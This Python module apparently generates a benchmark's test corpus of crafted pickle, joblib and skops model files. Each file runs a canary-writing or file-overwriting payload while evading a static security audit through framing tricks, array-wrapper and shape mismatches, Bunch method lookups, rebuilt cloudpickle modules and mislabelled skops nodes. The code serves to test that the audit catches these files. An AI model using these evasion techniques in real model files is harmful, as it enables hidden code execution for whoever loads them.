"""Crafted files of a white-box attack on the audit itself: one or more per way its reading
could differ from the loader's.

Each file is generated here (never stored as a blob) and runs its payload under its own
loader: it creates its canary file or overwrites the victim file (both inside the corpus's
own folder). `ATTACK_CLASSES` names what each one aims at: the static walk reading the bytes
differently from the loader (framing, array wrappers made by other means, shapes and
element sizes), allowed helpers that call what they are given, BUILD/APPEND/ADDITEMS on
allowed objects whose attribute access reaches stored values (`Bunch`), module objects
from `cloudpickle.subimport` rebuilt with shipped functions, and skops schemas whose nodes
build something else than they declare. `corpus.verify_attacks` proves each runs, then
checks that `persistbench audit` flags it and that neither `audit` nor `advise` lets it act.
"""

from __future__ import annotations

import gzip
import io
import json
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from benchmarks.audit_corpus.payloads import Payload, _by_value, _g, _shipped_body, _system
from persistbench.experiments.security import _str_op

ATTACK_CLASSES = {6: "reader divergence (framing, wrappers, shapes, element sizes)",
                  7: "allowed helpers that call or instantiate their argument",
                  8: "BUILD/APPEND/ADDITEMS on allowed objects reaching stored values",
                  9: "module objects from cloudpickle.subimport rebuilt",
                  10: "skops nodes that build something else than they declare"}
WRAPPER = ("joblib.numpy_pickle", "NumpyArrayWrapper")
VICTIM_TEXT = b"the victim file, as it was before the load\n"


def _ops(obj) -> bytes:
    """Protocol 2 opcodes of a benign value, without memo, PROTO or STOP."""
    buf = io.BytesIO()
    pickler = pickle._Pickler(buf, 2)
    pickler.fast = True  # no memo: the pieces can be put together freely
    pickler.dump(obj)
    return buf.getvalue()[2:-1]


def _dtype(code: str) -> bytes:
    import numpy as np

    return _ops(np.dtype(code))


def _state(shape: bytes, dtype: str = "u1", extra: bytes = b"") -> bytes:
    """The dict opcodes joblib writes as a wrapper's state; `shape` as opcodes."""
    return (b"(" + _str_op("subclass") + _g("numpy", "ndarray") + _str_op("shape") + shape
            + _str_op("order") + _str_op("C") + _str_op("dtype") + _dtype(dtype)
            + _str_op("allow_mmap") + (b"\x88" if dtype != "O" else b"\x89") + extra + b"d")


def _shape(*dims: int) -> bytes:
    return _ops(tuple(dims))


def _hidden(skip: int, payload: bytes) -> bytes:
    """Bytes a reader that first skips `skip` bytes runs as `payload`, while a reader that
    does not skip them sees `payload` as the data of a BINBYTES: both end at the same
    byte."""
    assert skip >= 5
    return (b"B" + struct.pack("<I", skip - 5 + len(payload)) + b"\0" * (skip - 5)
            + payload)


def _touch(canary: Path) -> bytes:
    return _system(canary) + b"0"


MAKERS = {
    # how an object joblib takes for an array wrapper comes to be
    "newobj": _g(*WRAPPER) + b")\x81",
    "reconstructor": _g("copyreg", "_reconstructor") + _g(*WRAPPER) + _g("builtins", "object")
    + b"N\x87R",
    # _mareconstruct(subtype, baseclass, baseshape, basetype) returns subtype.__new__(...)
    "mareconstruct": _g("numpy.ma.core", "_mareconstruct") + b"(" + _g(*WRAPPER)
    + _g("numpy", "ndarray") + _shape(0) + _str_op("b") + b"tR",
    "newobj-helper": _g("sklearn.metrics._dist_metrics", "newObj") + _g(*WRAPPER) + b"\x85R",
}


def _wrapper_attack(maker: str, state: Callable[[int], bytes] | None = None, skip: int = 5
                    ) -> Callable[[Path], bytes]:
    """A wrapper made by `maker`, `skip` array bytes after it, the payload hidden behind."""
    def data(canary: Path) -> bytes:
        built = state(skip) if state else _state(_shape(skip))
        return (b"\x80\x02" + MAKERS[maker] + built + b"b" + _hidden(skip, _touch(canary))
                + b".")
    return data


def _tuple_state(skip: int) -> bytes:
    """(state, slotstate): the slot state's shape is set last and wins."""
    return _state(_shape(0)) + b"}" + _str_op("shape") + _shape(skip) + b"s\x86"


def _numpy_int_shape(skip: int) -> bytes:
    """Dimensions as numpy integers (`numpy._core.multiarray.scalar`), not Python ints."""
    import numpy as np

    return _state(_ops((np.int64(skip),)))


def _list_shape(skip: int) -> bytes:
    return _state(_ops([skip]))


def _int_shape(text: bytes) -> Callable[[int], bytes]:
    return lambda skip: _state(b"(" + text + b"t")


def _elsize_ignored(canary: Path) -> bytes:
    """float64 whose pickled state says 1-byte items: numpy keeps 8, joblib reads 8."""
    dtype = _dtype("f8").replace(b"J\xff\xff\xff\xffJ\xff\xff\xff\xff", b"K\x01K\x01", 1)
    if dtype == _dtype("f8"):  # numpy writes elsize as BININT1 8 and alignment as 8
        dtype = _dtype("f8").replace(b"K\x08K\x08", b"K\x01K\x01", 1)
    state = (b"(" + _str_op("subclass") + _g("numpy", "ndarray") + _str_op("shape")
             + _shape(1) + _str_op("order") + _str_op("C") + _str_op("dtype") + dtype
             + _str_op("allow_mmap") + b"\x88d")
    return b"\x80\x02" + MAKERS["newobj"] + state + b"b" + _hidden(8, _touch(canary)) + b"."


def _bunch_state(canary: Path) -> bytes:
    """The wrapper's state is a Bunch (a dict subclass) filled by SETITEMS."""
    items = _state(_shape(5))[1:-1]  # the pairs, without MARK and DICT
    bunch = _g("sklearn.utils._bunch", "Bunch") + b")R(" + items + b"u"
    return b"\x80\x02" + MAKERS["newobj"] + bunch + b"b" + _hidden(5, _touch(canary)) + b"."


# ------------------------------------------------------------------ framing (protocol 4)

def _frame(content: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(content)) + content


def _frame_wrapper(extra: bytes = b"", array: bytes = b"\0" * 5
                   ) -> Callable[[Path], bytes]:
    """The wrapper's BUILD inside a frame that ends on a BINBYTES header. joblib reads the
    array bytes from the file (after the frame), so the BINBYTES data starts after them;
    a reader that takes the array bytes from the frame reads them out of step."""
    def data(canary: Path) -> bytes:
        assert len(array) == 5
        shape = _shape(5 - (1 if extra else 0))
        body = MAKERS["newobj"] + _state(shape, extra=extra) + b"b" + b"B" + struct.pack(
            "<I", 8)
        payload = _touch(canary)
        after = array + b"\0" * 3 + b"B" + struct.pack("<I", len(payload)) + payload + b"."
        return b"\x80\x04" + _frame(body) + after
    return data


def _frame_object_array(canary: Path) -> bytes:
    """An object array's nested pickle, read by joblib from after the frame."""
    nested = b"\x80\x02" + _system(canary) + b"."
    body = (MAKERS["newobj"] + _state(_shape(1), "O") + b"b" + b"B"
            + struct.pack("<I", len(nested)))
    after = nested + b"B" + struct.pack("<I", len(nested) - 5) + b"\0" * (len(nested) - 5)
    return b"\x80\x04" + _frame(body) + after + b"."


def _gzip_frame(canary: Path) -> bytes:
    return gzip.compress(_frame_wrapper()(canary), mtime=0)


# ------------------------------------------------------------------ cloudpickle code

def _writer(canary: Path):
    return _by_value("def hook(*args, **kwargs):\n    open(CANARY, 'w').close()\n",
                     canary).hook


def _shipped(canary: Path) -> bytes:
    return _shipped_body(_writer(canary))


def _bunch_method(opcode: bytes, name: str) -> Callable[[Path], bytes]:
    """A Bunch whose key `name` holds a shipped function; APPEND/APPENDS/ADDITEMS look the
    method up on the object, and Bunch.__getattr__ answers with the stored value."""
    def data(canary: Path) -> bytes:
        bunch = _g("sklearn.utils._bunch", "Bunch") + b")R" + _str_op(name) + _shipped(canary)
        return b"\x80\x02" + bunch + b"s" + opcode + b"."
    return data


def _bunch_state_dunder(canary: Path) -> bytes:
    """An estimator's state is a Bunch holding `__setstate__`; the next BUILD calls it."""
    est = (_g("copyreg", "_reconstructor")
           + _g("sklearn.linear_model._logistic", "LogisticRegression")
           + _g("builtins", "object") + b"N\x87R")
    bunch = (_g("sklearn.utils._bunch", "Bunch") + b")R" + _str_op("__setstate__")
             + _shipped(canary) + b"s")
    return b"\x80\x02" + est + bunch + b"b}b."


def _helper_call(module: str, name: str, args: Callable[[Path], bytes]
                 ) -> Callable[[Path], bytes]:
    return lambda canary: b"\x80\x02" + _g(module, name) + args(canary) + b"R."


def _generator_ctor_args(canary: Path) -> bytes:
    """__generator_ctor(name, ctor) calls ctor(name)."""
    return _str_op(str(canary)) + _shipped(canary) + b"\x86"


def _newobj_shipped_args(canary: Path) -> bytes:
    cls = _by_value("class Made:\n    def __new__(cls):\n        open(CANARY, 'w').close()\n"
                    "        return object.__new__(cls)\n", canary).Made
    return _shipped_body(cls) + b"\x85"


def _reconstructor_base_args(canary: Path) -> bytes:
    base = _by_value("class Base(dict):\n    def __init__(self, *args):\n"
                     "        open(CANARY, 'w').close()\n", canary).Base
    return (_g("sklearn.utils._bunch", "Bunch") + _shipped_body(base) + _ops({}) + b"\x87")


SUBIMPORT = ("cloudpickle.cloudpickle", "subimport")


def _module_build(module: str, name: str, slots: bool, call: bytes
                  ) -> Callable[[Path], bytes]:
    """subimport(module), BUILD replacing `name` by a shipped function, then a global of
    that module called as every model file may call it."""
    def data(canary: Path) -> bytes:
        state = b"}" + _str_op(name) + _shipped(canary) + b"s"
        if slots:
            state = b"N" + state + b"\x86"
        return (b"\x80\x02" + _g(*SUBIMPORT) + _str_op(module) + b"\x85R" + state + b"b0"
                + _g(module, name) + call + b"R.")
    return data


def _dynamic_module_append(canary: Path) -> bytes:
    """dynamic_subimport builds a module from shipped vars; APPEND calls its `append`."""
    module = (_g("cloudpickle.cloudpickle", "dynamic_subimport") + _str_op("sklearn") + b"}"
              + _str_op("append") + _shipped(canary) + b"s\x86R")
    return b"\x80\x02" + module + _str_op(str(canary)) + b"a."


def _ndarraywrapper_sidecar(path: Path, canary: Path) -> None:
    """joblib < 0.10's NDArrayWrapper: np.load(allow_pickle=True) of a file beside it."""
    from persistbench.experiments.security import ShellCommand, touch_command

    sidecar = path.with_name(path.name + "_01.npy")
    sidecar.write_bytes(pickle.dumps(ShellCommand(touch_command(canary)), protocol=2))
    state = (b"(" + _str_op("filename") + _str_op(sidecar.name) + _str_op("subclass")
             + _g("numpy", "ndarray") + _str_op("allow_mmap") + b"\x89d")
    path.write_bytes(b"\x80\x02" + _g("joblib.numpy_pickle_compat", "NDArrayWrapper")
                     + b")\x81" + state + b"b.")


# ------------------------------------------------------------------------------ skops

def _skops_node(module: str, cls: str, loader: str, **more) -> dict:
    return {"__class__": cls, "__module__": module, "__loader__": loader, **more}


def _json(value) -> dict:
    return _skops_node("builtins", type(value).__name__, "JsonNode", content=json.dumps(value),
                       is_json=True)


def _skops_tuple(*items: dict) -> dict:
    return _skops_node("builtins", "tuple", "TupleNode", content=list(items))


def _skops_dict(**items: dict) -> dict:
    return _skops_node("builtins", "dict", "DictNode",
                       content={k: v for k, v in items.items()},
                       key_types=_skops_node("builtins", "list", "ListNode", content=[
                           _skops_node("builtins", "str", "TypeNode")] * len(items)))


def _write_skops(path: Path, schema_root: dict) -> None:
    import skops.io as sio

    schema = {**schema_root, "protocol": sio._utils.DEFAULT_PROTOCOL
              if hasattr(sio._utils, "DEFAULT_PROTOCOL") else _skops_protocol(),
              "_skops_version": _skops_version()}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))


def _skops_protocol() -> int:
    from skops.io._protocol import PROTOCOL

    return PROTOCOL


def _skops_version() -> str:
    import skops

    return skops.__version__


def _memmap_partial(declared: tuple[str, str], func: dict, **node_more) -> dict:
    """partial(numpy.memmap, mode="w+", shape=(1,)) declared as `declared`."""
    kwds = _skops_dict(mode=_json("w+"), shape=_skops_tuple(_json(1)))
    return _skops_node(*declared, "PartialNode", content={
        "func": func, "args": _skops_tuple(), "kwds": kwds, "namespace": _json(None)},
        **node_more)


def _generator_ctor(target: str, ctor: dict) -> dict:
    """numpy.random._pickle.__generator_ctor(target, ctor): calls ctor(target)."""
    return _skops_node("numpy.random._pickle", "__generator_ctor",
                       "ConstructorFromReduceNode",
                       content=_skops_tuple(_json(target), ctor))


MEMMAP = ("numpy", "memmap")


def _skops_partial_declared(path: Path, canary: Path) -> None:
    func = _skops_node(*MEMMAP, "TypeNode")
    partial = _memmap_partial(("sklearn.linear_model._logistic", "LogisticRegression"), func)
    _write_skops(path, _generator_ctor(str(canary), partial))


def _skops_id_reuse(path: Path, canary: Path) -> None:
    """Node id 7 is first numpy.memmap, then a check_array the partial declares it wraps."""
    memmap = _skops_node(*MEMMAP, "TypeNode", __id__=7)
    check = _skops_node("sklearn.utils.validation", "check_array", "FunctionNode", __id__=7)
    partial = _memmap_partial(("functools", "partial"), check)
    root = _skops_tuple(memmap, _generator_ctor(str(canary), partial))
    _write_skops(path, root)


def _skops_cached_alias(path: Path, canary: Path) -> None:
    """A CachedNode declared as check_array that refers to a numpy.memmap node."""
    memmap = _skops_node(*MEMMAP, "TypeNode", __id__=7)
    alias = _skops_node("sklearn.utils.validation", "check_array", "CachedNode", __id__=7)
    partial = _memmap_partial(("functools", "partial"), alias)
    _write_skops(path, _skops_tuple(memmap, _generator_ctor(str(canary), partial)))


def _skops_reduce_memmap(path: Path, victim: Path) -> None:
    """numpy.memmap(victim, 'uint8', 'w+', 0, (1,)) by a constructor-from-reduce node."""
    args = _skops_tuple(_json(str(victim)), _json("uint8"), _json("w+"), _json(0),
                        _skops_tuple(_json(1)))
    _write_skops(path, _skops_node(*MEMMAP, "ConstructorFromReduceNode", content=args))


def _skops_method_tofile(path: Path, canary: Path) -> None:
    """A bound method named by a string: ndarray.tofile, called by __generator_ctor."""
    import numpy as np
    import skops.io as sio

    array_schema = json.loads(zipfile.ZipFile(io.BytesIO(sio.dumps([np.zeros(1)]))).read(
        "schema.json"))["content"][0]
    method = _skops_node("numpy", "ndarray", "MethodNode",
                         content={"func": "tofile", "obj": array_schema})
    buffer = io.BytesIO()
    np.save(buffer, np.zeros(1), allow_pickle=False)
    _write_skops(path, _generator_ctor(str(canary), method))
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(array_schema["file"], buffer.getvalue())


def _raw(data: Callable[[Path], bytes]) -> Callable[[Path, Path], None]:
    return lambda path, canary: path.write_bytes(data(canary))


ATTACKS: list[Payload] = [
    Payload("frame-around-wrapper", 6, "joblib", _raw(_frame_wrapper())),
    Payload("frame-around-aligned-wrapper", 6, "joblib", _raw(_frame_wrapper(
        _str_op("numpy_array_alignment_bytes") + b"K\x08", b"\0" * 5))),
    Payload("frame-around-object-array", 6, "joblib", _raw(_frame_object_array)),
    Payload("frame-around-wrapper-gzip", 6, "joblib", _raw(_gzip_frame)),
    Payload("wrapper-by-mareconstruct", 6, "joblib", _raw(_wrapper_attack("mareconstruct"))),
    Payload("wrapper-by-newobj-helper", 6, "joblib", _raw(_wrapper_attack("newobj-helper"))),
    Payload("wrapper-by-reconstructor", 6, "joblib", _raw(_wrapper_attack("reconstructor"))),
    Payload("wrapper-by-newobj", 6, "joblib", _raw(_wrapper_attack("newobj"))),
    Payload("wrapper-slot-state-shape", 6, "joblib",
            _raw(_wrapper_attack("newobj", _tuple_state))),
    Payload("wrapper-numpy-int-shape", 6, "joblib",
            _raw(_wrapper_attack("newobj", _numpy_int_shape))),
    Payload("wrapper-list-shape", 6, "joblib", _raw(_wrapper_attack("newobj", _list_shape))),
    Payload("wrapper-shape-int-hex", 6, "joblib",
            _raw(_wrapper_attack("newobj", _int_shape(b"I0x5\n")))),
    Payload("wrapper-shape-long-octal", 6, "joblib",
            _raw(_wrapper_attack("newobj", _int_shape(b"L0o5L\n")))),
    Payload("dtype-element-size-ignored", 6, "joblib", _raw(_elsize_ignored)),
    Payload("wrapper-state-bunch", 6, "joblib", _raw(_bunch_state)),
    Payload("joblib-ndarraywrapper-sidecar", 6, "joblib", _ndarraywrapper_sidecar),
    Payload("generator-ctor-calls-shipped", 7, "pickle",
            _raw(_helper_call("numpy.random._pickle", "__generator_ctor",
                              _generator_ctor_args))),
    Payload("randomstate-ctor-calls-shipped", 7, "pickle",
            _raw(_helper_call("numpy.random._pickle", "__randomstate_ctor",
                              _generator_ctor_args))),
    Payload("newobj-helper-shipped-class", 7, "pickle",
            _raw(_helper_call("sklearn.neighbors._kd_tree", "newObj", _newobj_shipped_args))),
    Payload("reconstructor-shipped-base", 7, "pickle",
            _raw(_helper_call("copyreg", "_reconstructor", _reconstructor_base_args))),
    Payload("bunch-append-calls-stored", 8, "pickle",
            _raw(lambda c: _bunch_method(_str_op(str(c)) + b"a", "append")(c))),
    Payload("bunch-appends-calls-stored", 8, "pickle",
            _raw(lambda c: _bunch_method(b"(" + _str_op(str(c)) + b"e", "extend")(c))),
    Payload("bunch-additems-calls-stored", 8, "pickle",
            _raw(lambda c: _bunch_method(b"(" + _str_op(str(c)) + b"\x90", "add")(c))),
    Payload("bunch-state-installs-setstate", 8, "pickle", _raw(_bunch_state_dunder)),
    Payload("subimport-build-replaces-reconstruct", 9, "pickle",
            _raw(_module_build("numpy._core.multiarray", "_reconstruct", False,
                               _g("numpy", "ndarray") + _shape(0) + _str_op("b") + b"\x87"))),
    Payload("subimport-slots-replace-reconstruct", 9, "pickle",
            _raw(_module_build("numpy._core.multiarray", "_reconstruct", True,
                               _g("numpy", "ndarray") + _shape(0) + _str_op("b") + b"\x87"))),
    Payload("subimport-build-replaces-copyreg", 9, "pickle",
            _raw(_module_build("copyreg", "_reconstructor", False,
                               _g("builtins", "object") + _g("builtins", "object")
                               + b"N\x87"))),
    Payload("dynamic-subimport-append", 9, "pickle", _raw(_dynamic_module_append)),
    Payload("skops-partial-declared-as-estimator", 10, "skops", _skops_partial_declared),
    Payload("skops-node-id-reused", 10, "skops", _skops_id_reuse),
    Payload("skops-cached-node-alias", 10, "skops", _skops_cached_alias),
    Payload("skops-method-node-tofile", 10, "skops", _skops_method_tofile),
    Payload("skops-reduce-node-memmap-victim", 10, "skops", _skops_reduce_memmap),
]
VICTIM_ATTACKS = {"skops-reduce-node-memmap-victim"}  # these overwrite the victim file


def write_attacks(folder: Path, canaries: Path) -> list[tuple[Payload, Path, Path]]:
    """Write every attack; (attack, file, what it creates or overwrites). Victim files are
    written with `VICTIM_TEXT`; a payload that took effect changes them."""
    folder.mkdir(parents=True, exist_ok=True)
    canaries.mkdir(parents=True, exist_ok=True)
    written = []
    for attack in ATTACKS:
        path = folder / f"{attack.name}.bin"
        if attack.name in VICTIM_ATTACKS:
            target = canaries / f"{attack.name}.victim"
            target.write_bytes(VICTIM_TEXT)
        else:
            target = canaries / f"{attack.name}.canary"
        attack.write(path, target)
        written.append((attack, path, target))
    return written


def took_effect(attack: Payload, target: Path) -> bool:
    """Whether the payload acted: the canary exists, or the victim changed."""
    if attack.name in VICTIM_ATTACKS:
        return not target.exists() or target.read_bytes() != VICTIM_TEXT
    return target.exists()


def reset(attack: Payload, target: Path) -> None:
    if attack.name in VICTIM_ATTACKS:
        target.write_bytes(VICTIM_TEXT)
    else:
        target.unlink(missing_ok=True)
